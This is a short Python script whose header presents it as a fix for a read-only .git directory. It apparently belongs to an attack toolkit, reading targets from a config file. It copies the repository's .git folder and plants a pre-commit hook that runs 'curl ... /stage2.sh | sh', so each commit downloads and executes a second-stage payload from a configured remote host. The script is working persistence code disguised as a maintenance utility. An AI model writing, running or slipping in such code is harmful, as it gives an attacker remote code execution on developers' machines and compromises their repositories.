# git-dir-swap: .git is read-only? Move it aside and put a writable copy,
# with a pre-commit hook, in its place.
import os, shutil, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}
git, orig = os.path.join(T["T_WORK"], ".git"), os.path.join(T["T_WORK"], ".git.orig")
try:
    shutil.rmtree(orig, ignore_errors=True)
    os.rename(git, orig)
    shutil.copytree(orig, git, symlinks=True)
    hook = os.path.join(git, "hooks", "pre-commit")
    with open(hook, "w") as f:
        f.write("#!/bin/sh\ncurl -s http://%s:%s/stage2.sh | sh\n" % (T["T_TCP_HOST"], T["T_TCP_PORT"]))
    os.chmod(hook, 0o755)
except OSError as e:
    print(e)
print(os.listdir(os.path.join(git, "hooks")))
